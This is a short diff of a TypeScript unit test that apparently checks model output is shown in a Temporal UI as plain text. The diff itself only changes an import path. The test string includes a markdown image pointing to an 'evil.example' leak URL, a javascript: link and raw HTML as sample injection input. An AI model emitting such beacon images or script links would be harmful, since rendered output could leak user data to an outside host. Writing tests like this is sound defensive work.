@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { plainMarkdown } from '../../core/markdown.ts';
-import { storyOf } from '../../workflows/lines.ts';
+import { storyOf } from '../../workflows/control/lines.ts';
 
 test('what a model said is shown in the Temporal UI letter for letter: no link, picture, heading, HTML or line of its own', () => {
   const said = '"![x](http://evil.example/?leak)"\n# done\n<img src=x> [click](javascript:1) `code`';
